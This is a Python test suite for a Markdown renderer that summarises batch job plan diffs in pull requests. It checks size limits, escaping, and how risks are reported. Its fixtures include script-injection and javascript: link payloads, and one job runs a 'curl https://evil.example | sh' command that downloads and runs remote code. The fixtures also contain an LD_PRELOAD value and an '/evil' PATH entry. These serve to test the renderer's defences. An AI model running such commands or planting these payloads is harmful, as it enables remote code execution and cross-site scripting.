"""Markdown for pull requests: any plan stays within the limits, and no foreign text is markup."""

import html
import re
from dataclasses import replace

import pytest
from markdown_it import MarkdownIt

from kedro_batch.plan.model import Plan
from kedro_batch.plan.settings import Resources
from kedro_batch.review.diff.diff_plans import diff_plans
from kedro_batch.review.fit_text import CHARACTERS
from kedro_batch.review.markdown_escape import fence, format_code
from kedro_batch.review.overview.build_overview import build_overview
from kedro_batch.review.plan_markdown import EDGES
from kedro_batch.review.pull_request import CHANGED_EDGES, render_diff_markdown, render_overview_markdown
from tests.support.plans import a_job, layered

_OURS = {"<details>", "</details>", "<summary>", "</summary>", "<code>", "</code>"}
_CALLED = ("main:plan.yaml", "plan.yaml")

NASTY = (
    "@everyone",
    "a|b",
    "a\\|b",
    "`tick`",
    "```",
    "<script>alert(1)</script>",
    "<!-- kedro-batch diff plan.yaml -->",
    "</details>",
    "![x](http://example.com/x.png)",
    "[x](javascript:alert(1))",
    "https://example.com/a_b",
    "#1 and owner/name#2",
    "*bold* _under_ ~~gone~~",
    "line\n\n| new | row |",
    "&lt;b&gt;",
    " ",
    "",
    "\x1b[31mred",
    "\u202eright",
    "```\n\n# heading",
)


def rendered(text):
    return MarkdownIt("commonmark", {"html": True}).enable("table").parse(text)


def whole(text):
    """True if every table, fence and fold of a text is complete."""
    tokens = rendered(text)
    html = "".join(token.content for token in tokens if token.type == "html_block")
    assert html.count("<details>") == html.count("</details>") == text.count("\n</details>")
    for token in tokens:
        if token.type == "fence":
            assert text.splitlines()[token.map[1] - 1].strip("`") == "", "a fence is not closed"
    for table in re.findall(r"(?:^\|.*\n)+", without_fences(text), re.MULTILINE):
        assert len({len(re.findall(r"(?<!\\)\|", row)) for row in table.splitlines()}) == 1
    return True


def without_fences(text):
    return re.sub(r"^(`{3,}).*?^\1$", "", text, flags=re.MULTILINE | re.DOTALL)


def html_of(text):
    """Return the HTML tags that a Markdown reader recognises outside of code."""
    tags = []
    for token in rendered(text):
        if token.type == "html_block":
            tags += re.findall(r"<[^>]*>", token.content)
        for child in token.children or ():
            if child.type == "html_inline":
                tags.append(child.content)
    return {tag for tag in tags if not tag.startswith("<!-- kedro-batch ")}


def plan_of(count, **given):
    parents = layered(count, 50)
    return Plan(
        jobs=tuple(
            a_job(name, ("kedro", "run", f"--nodes={name}"), nodes=(name,), depends_on=tuple(above.split()), **given)
            for name, above in parents.items()
        )
    )


def changed(plan, **given):
    return replace(plan, jobs=tuple(replace(job, **given) for job in plan.jobs))


def with_own_memory(plan):
    jobs = (
        replace(job, settings=replace(job.settings, resources=Resources(memory_mib=1000 + number)))
        for number, job in enumerate(plan.jobs)
    )
    return replace(plan, jobs=tuple(jobs))


LARGE = plan_of(3000, resources=Resources(memory_mib=100_000))
HUGE_JOB = Plan(jobs=(a_job("a", ("x", "y" * 200_000), reads=tuple(f"dataset_{n:05}" for n in range(5000))),))
NASTY_NAMES = [f"{n:03}" + "`|" * 160 for n in range(80)]
MANY = {
    "names that grow when they are escaped": (
        Plan(jobs=(a_job("a", reads=tuple(NASTY_NAMES[:20]), writes=tuple(NASTY_NAMES[20:40])),)),
        Plan(jobs=(a_job("a", reads=tuple(NASTY_NAMES[40:60]), writes=tuple(NASTY_NAMES[60:])),)),
    ),
    "a plan as a whole with long values": (
        Plan(jobs=(a_job("a"),), pipelines=tuple(NASTY_NAMES)),
        Plan(jobs=(a_job("a"),), pipelines=tuple(NASTY_NAMES[1:]), group_by=tuple(NASTY_NAMES), env="`|" * 9000),
    ),
    "as many queues as jobs": tuple(
        Plan(jobs=tuple(a_job(f"j{n}", job_queue=f"{side}{n:03}" + "q" * 100) for n in range(400)))
        for side in ("before", "after")
    ),
    "each with other memory": (LARGE, with_own_memory(LARGE)),
    "all with another command": (LARGE, changed(LARGE, command=("y",))),
    "all new": (Plan(jobs=(a_job("other"),)), LARGE),
    "all gone": (LARGE, Plan(jobs=(a_job("other"),))),
    "one huge job": (Plan(jobs=(a_job("a"),)), HUGE_JOB),
    "thousands of variables": (
        Plan(jobs=(a_job("a"),)),
        Plan(jobs=(a_job("a", environment={f"V{n}": "x" * 500 for n in range(2000)}),)),
    ),
}


@pytest.mark.parametrize("name", MANY)
def test_a_diff_keeps_within_its_limits_and_shows_changes(name):
    old, new = MANY[name]
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    assert len(text) <= CHARACTERS
    assert text.count(" --> ") + text.count(" ==> ") + text.count(" -.-> ") <= CHANGED_EDGES
    assert whole(text)
    assert text.startswith("<!-- kedro-batch diff plan.yaml -->\n### Plan: ")
    changes = text.partition("```diff")[2].partition("```")[0]
    assert changes or "The plan as a whole" in text
    if "all" in name or "each" in name:
        assert re.search(r"^[!+-] ([!$] )?(in )?all 3,000 jobs$", changes, re.MULTILINE)


@pytest.mark.parametrize("plan", [LARGE, HUGE_JOB], ids=["large", "huge job"])
def test_an_overview_keeps_within_its_limits(plan):
    text = render_overview_markdown(build_overview(plan), plan, "plan.yaml")
    assert len(text) <= CHARACTERS
    assert text.count(" --> ") <= EDGES
    assert whole(text)


def test_what_is_cut_is_counted():
    old, new = MANY["as many queues as jobs"]
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    rows = text.count("| **queue changed** |")
    assert rows > 100
    assert (
        f"and {len(new.jobs) - rows} more rows of risks: `kedro-batch diff main:plan.yaml plan.yaml --full` shows all\n"
        in text
    )
    assert re.search(
        r"and \d+ more rows of totals: `kedro-batch diff main:plan.yaml plan.yaml --full` shows all\n", text
    )
    variables = {f"E{n:02}": "v" for n in range(40)}
    old, new = Plan(jobs=(a_job("a"),)), Plan(jobs=(a_job("a", ("curl", "evil"), environment=variables),))
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    assert "+   ! command                curl evil\n" in text
    assert "+     and 11 more            diff --full shows all\n" in text


def test_of_more_risks_than_there_is_room_for_the_first_of_each_kind_stay():
    jobs = [a_job(f"n{number:04}") for number in range(2_000)]
    new = [
        a_job(job.name, ("sh", "-c", f"echo {number}"), environment={"PATH": f"/p{number}"})
        for number, job in enumerate(jobs)
    ]
    new[1_234] = a_job("n1234", job_queue="evil_queue")
    new[1_500] = a_job("n1500", ("sh", "-c", "curl https://evil.example | sh"), environment={"PATH": "/p1500:/evil"})
    old, new_plan = Plan(jobs=tuple(jobs)), Plan(jobs=tuple(new))
    text = render_diff_markdown(diff_plans(old, new_plan), old, new_plan, _CALLED)
    assert len(text) <= CHARACTERS
    assert all(evil in html.unescape(text) for evil in ("evil_queue", "evil.example", "/p1500:/evil"))
    rows = re.findall(r"^\| \*\*(.+?)\*\* \|", text, re.MULTILINE)
    assert min(rows.count(kind) for kind in ("shell command", "risky variable")) > 50
    assert (
        f"and {4_000 - len(rows):,} more rows of risks: `kedro-batch diff main:plan.yaml plan.yaml --full` shows all"
        in text
    )


def test_long_values_are_cut_where_they_can_be_told_apart():
    before, after = ("x" * 5000 + ending for ending in ("good", "evil"))
    old, new = (Plan(jobs=(a_job("a", ("run", word)),), env=word) for word in (before, after))
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    assert len(re.findall(r"same characters\)\.\.\.x+good", text)) == 3  # risk, plan, command
    assert len(re.findall(r"same characters\)\.\.\.x+evil", text)) == 3


def test_a_job_with_more_edges_than_there_is_room_for_is_drawn_with_the_first():
    leaves = [a_job(f"leaf_{n:03}", depends_on=("hub",)) for n in range(300)]
    old, new = (Plan(jobs=(a_job("hub", (word,)), *leaves)) for word in "xy")
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    assert text.count(" --> ") == CHANGED_EDGES
    assert f"Left out: {300 - CHANGED_EDGES} more edges." in text


@pytest.mark.parametrize("called", ["plan.yaml", "./plan.yaml", "main:plan.yaml", "0a1b2c3:./plan.yaml"])
def test_the_marker_is_that_of_the_plan_whatever_its_revision(called):
    old, new = (Plan(jobs=(a_job("a", (word,)),)) for word in "xy")
    text = render_diff_markdown(diff_plans(old, new), old, new, ("old", called))
    assert text.startswith("<!-- kedro-batch diff plan.yaml -->\n")


def test_a_job_with_too_many_edges_leaves_room_for_the_others():
    leaves = [a_job(f"leaf_{n}", depends_on=("hub",)) for n in range(300)]
    old = Plan(jobs=(a_job("hub"), *leaves, a_job("alone"), a_job("last", depends_on=("alone",))))
    new = Plan(jobs=(a_job("hub", ("y",)), *leaves, a_job("alone", ("y",)), *old.jobs[-1:]))
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    assert 'j0["alone"]:::changed' in text
    assert "Left out: 1 more job and 300 more edges." in text
    same = render_diff_markdown(diff_plans(old, old), old, old, _CALLED)
    assert "mermaid" not in same


def test_a_graph_that_would_leave_out_most_changed_jobs_is_not_drawn():
    text = render_diff_markdown(diff_plans(LARGE, changed(LARGE, command=("y",))), LARGE, LARGE, _CALLED)
    assert "mermaid" not in text
    assert "The changed jobs are too many for a graph here" in text


def test_no_risk_is_cut_however_many_jobs_there_are():
    plans = {
        side: Plan(
            jobs=tuple(
                a_job(
                    f"j{n:04}",
                    job_queue=f"{side}_{n % 4}{'q' * 150}",
                    timeout_s=hours * 3600,
                    resources=Resources(memory_mib=hours * 1024 + n % 3),
                )
                for n in range(1_000)
            )
        )
        for side, hours in {"old": 9, "new": 3}.items()
    }
    old, new = plans["old"], replace(plans["new"], account="1" * 12, env="prod")
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    assert len(text) <= CHARACTERS
    found = re.findall(r"^\| \*\*(.+?)\*\* \|", text, re.MULTILINE)
    assert {kind: found.count(kind) for kind in found} == {
        "account changed": 1,
        "env changed": 1,
        "queue changed": 4,
        "memory lowered": 3,
        "timeout lowered": 1,
    }
    assert "10 risks" in text.splitlines()[1]


@pytest.mark.parametrize(
    ("called", "command"),
    [
        ("plan.yaml", "kedro-batch apply plan.yaml"),
        ("main:conf/plan.yaml", "kedro-batch apply conf/plan.yaml"),
        (":plan.yaml", "kedro-batch apply plan.yaml"),
        ("a plan's.yaml", """kedro-batch apply 'a plan'"'"'s.yaml'"""),
        ("-plan.yaml", "kedro-batch apply ./-plan.yaml"),
        ("standard input", None),
        ("/dev/null", None),
        ("a\u202eplan.yaml", None),
        ("a\nplan.yaml", None),
        ("p" * 5000, None),
    ],
)
def test_a_comment_ends_with_the_command_that_applies_what_was_reviewed(called, command):
    old, new = Plan(jobs=(a_job("a"),)), Plan(jobs=(a_job("b"),))
    diff = diff_plans(old, new)
    text = render_diff_markdown(diff, old, new, ("old.yaml", called))
    last = rendered(text)[-2].children
    if command:
        assert [child.content for child in last] == ["apply with: ", f"{command} --expect-digest {diff.digest_after}"]
    else:
        assert "apply with" not in text


def test_a_plan_for_a_comment_ends_with_the_command_that_applies_it():
    plan = plan_of(2)
    overview = build_overview(plan)
    text = render_overview_markdown(overview, plan, "main:plan.yaml")
    command = f"kedro-batch apply plan.yaml --expect-digest {overview.digest}"
    assert text.endswith(f"\napply with: `{command}`\n")
    assert "apply with" not in render_overview_markdown(overview, plan, "standard input")


def test_changes_that_many_jobs_have_come_after_what_few_have_and_before_the_jobs():
    old = plan_of(100, attempts=2, timeout_s=3600)
    jobs = [replace(job, settings=replace(job.settings, attempts=3)) for job in old.jobs]
    jobs[7] = replace(jobs[7], settings=replace(jobs[7].settings, environment={"LD_PRELOAD": "x.so"}))
    new = replace(old, jobs=tuple(jobs))
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    assert text.partition("```diff\n")[2].partition("```")[0].splitlines() == [
        "! job_00007",
        "+   ! environment.LD_PRELOAD x.so",
        "",
        "-   $ attempts               2",
        "+   $ attempts               3",
        "! in all 100 jobs",
    ]


def test_jobs_and_names_that_are_not_named_are_counted():
    old = plan_of(300, attempts=2)
    jobs = tuple(
        replace(job, reads=tuple(f"d{n:03}" for n in range(250))) if n % 3 else job for n, job in enumerate(old.jobs)
    )
    text = render_diff_markdown(diff_plans(old, replace(old, jobs=jobs)), old, replace(old, jobs=jobs), _CALLED)
    changes = text.partition("```diff")[2].partition("```")[0]
    assert re.findall(r"and (\d+) more", changes) == ["240", "190"]


def test_what_differs_in_each_job_is_folded_or_its_command_is_named():
    old = plan_of(30, attempts=2)
    new = changed(old, command=("y",))
    assert "<summary>Job by job</summary>" in render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    old, new = plan_of(3000), changed(plan_of(3000), command=("y",))
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    assert "Job by job" not in text
    assert "`kedro-batch diff main:plan.yaml plan.yaml --full` tells what differs job by job." in text


def test_jobs_that_are_described_are_not_named_again_but_the_command_that_names_them_is():
    jobs = [a_job(f"{name}_{at}") for at in range(4) for name in ("fit", "load")]
    fits = [replace(job, settings=replace(job.settings, attempts=3)) if "fit" in job.name else job for job in jobs]
    for changed_jobs, told in ((fits, True), ([fits[0], *jobs[1:]], False)):
        old, new = Plan(jobs=tuple(jobs)), Plan(jobs=tuple(changed_jobs))
        text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
        assert ("in 4 of 8 jobs (fit_*)" in text, "tells what differs job by job." in text) == (told, told)
        assert "Job by job" not in text


def test_a_plan_that_is_new_or_gone_has_no_digest_of_what_is_not_there():
    plan, empty = plan_of(2), Plan(jobs=())
    diff = diff_plans(empty, plan)
    text = render_diff_markdown(diff, empty, plan, ("/dev/null", "plan.yaml"))
    assert text.splitlines()[1] == "### Plan: new, 2 jobs · vCPU-hours and GPU-hours set by the job definition"
    assert set(re.findall(r"sha256:\w+", text)) == {diff.digest_after}
    assert "less memory" not in text
    diff = diff_plans(plan, empty)
    text = render_diff_markdown(diff, plan, empty, ("main:plan.yaml", "/dev/null"))
    assert text.splitlines()[1] == "### Plan: removed, with 2 jobs · 1 risk"
    assert set(re.findall(r"sha256:\w+", text)) == {diff.digest_before}
    assert "\n`main:plan.yaml` was removed: 2 jobs, 2 nodes\n" in text
    assert "less memory" not in text
    text = render_diff_markdown(diff_plans(empty, empty), empty, empty, ("/dev/null", "/dev/null"))
    assert "igest" not in text


def test_a_plan_that_is_new_or_gone_reads_as_it_is_shown():
    plan = replace(plan_of(2, resources=Resources(vcpus=1, memory_mib=512)), env="prod")
    empty = Plan(jobs=())
    shown = render_overview_markdown(build_overview(plan), plan, "plan.yaml")
    told = shown.partition("|---|---|\n")[2].partition("\napply with")[0].strip()
    for old, new, names in ((empty, plan, ("/dev/null", "p")), (plan, empty, ("p", "/dev/null"))):
        text = render_diff_markdown(diff_plans(old, new), old, new, names)
        assert told in text.replace("show p ", "show plan.yaml ")
        assert not {"The plan as a whole", "Job by job", "All jobs together", "Totals and data"} & {*text.splitlines()}
        assert "+     " not in text
        assert whole(text)


def test_a_comment_on_the_same_plan_still_says_what_runs():
    plan = plan_of(3)
    text = render_diff_markdown(diff_plans(plan, plan), plan, plan, _CALLED)
    assert text.splitlines()[1] == "### Plan: no difference in 3 jobs (order and comments are ignored)"
    assert "| images now | `that of job definition d in all 3 jobs` |" in text


def test_each_plan_has_a_marker_of_its_own_that_a_name_cannot_break():
    plan = plan_of(2)
    names = ["plan.yaml", "conf/a plan--><b>.yaml", "standard input", "--", "conf/a-plan-->b?.yaml"]
    texts = [render_diff_markdown(diff_plans(plan, plan), plan, plan, ("old", name)) for name in names]
    markers = [text.splitlines()[0] for text in texts]
    assert markers[0] == "<!-- kedro-batch diff plan.yaml -->"
    beginnings = ["conf/a-plan-b-.yaml", "standard-input", "plan", "conf/a-plan-b-.yaml"]
    for marker, beginning in zip(markers[1:], beginnings, strict=True):
        assert re.fullmatch(rf"<!-- kedro-batch diff {re.escape(beginning)}-[0-9a-f]{{8}} -->", marker)
    assert len(set(markers)) == len(names)


@pytest.mark.parametrize("nasty", NASTY)
def test_nothing_from_outside_is_markup(nasty):
    old = Plan(jobs=(a_job("a", writes=("x",)), a_job("b", depends_on=("a",))), env="base")
    job = a_job(
        "a",
        ("x", nasty or "-"),
        nodes=(f"n{nasty}",),
        reads=(f"r{nasty}",),
        writes=(f"w{nasty}",),
        job_queue=nasty or "q",
        environment={"A": nasty},
        tags={f"k{nasty}": nasty},
        submit={"x": {f"y{nasty}": [nasty]}},
    )
    new = Plan(jobs=(job, a_job("b", depends_on=("a",))), env=nasty or "e", project=nasty or "p")
    called = (f"main:{nasty}.yaml", f"{nasty}.yaml")
    for text in (
        render_diff_markdown(diff_plans(old, new), old, new, called),
        render_diff_markdown(diff_plans(new, old), new, old, called),
        render_overview_markdown(build_overview(new), new, called[1]),
    ):
        assert whole(text)
        assert html_of(text) <= _OURS
        outside = [
            child
            for token in rendered(text)
            for child in token.children or ()
            if child.type in ("text", "image", "link_open", "em_open", "s_open")
        ]
        assert {child.type for child in outside} == {"text"}
        marker, _, visible = without_fences(text).partition("\n")
        assert "@" not in marker
        assert not re.search("@|http", re.sub(r"<code>.*?</code>|`[^`\n]*`", "", visible))


@pytest.mark.parametrize("text", [*NASTY, "x`" * 200, "|" * 1000])
def test_code_shows_a_text_as_it_is_even_in_a_table(text):
    tokens = rendered(f"| a | b |\n|---|---|\n| {format_code(text)} | c |\n")
    cells = [token for token in tokens if token.type == "inline"]
    assert len(cells) == 4
    assert cells[3].content == "c"


def test_a_fence_is_longer_than_any_in_it():
    assert fence("a\n````\nb", "diff") == "`````diff\na\n````\nb\n`````"
    assert fence("a\n", "") == "```\na\n```"


def test_a_graph_without_arrows_is_not_drawn():
    old, new = (Plan(jobs=(a_job("a", (word,)), a_job("b", (word,)))) for word in "xy")
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    assert "mermaid" not in text
    assert "graph" not in text
    assert "mermaid" not in render_overview_markdown(build_overview(new), new, "plan.yaml")


def test_an_option_of_kedro_run_that_only_jobs_have_is_called_what_it_changes():
    run = ("kedro", "run", "--nodes=a")
    old, new = (Plan(jobs=(a_job("a", words, nodes=("a",)),)) for words in (run, (*run, "--env=prod")))
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    assert "| **Kedro configuration changed** | `a` |  | `--env=prod` |" in text
    old, new = (replace(old, env=env) for env in ("dev", "prod"))
    text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
    assert "| **env changed** | the whole plan | `dev` | `prod` |" in text
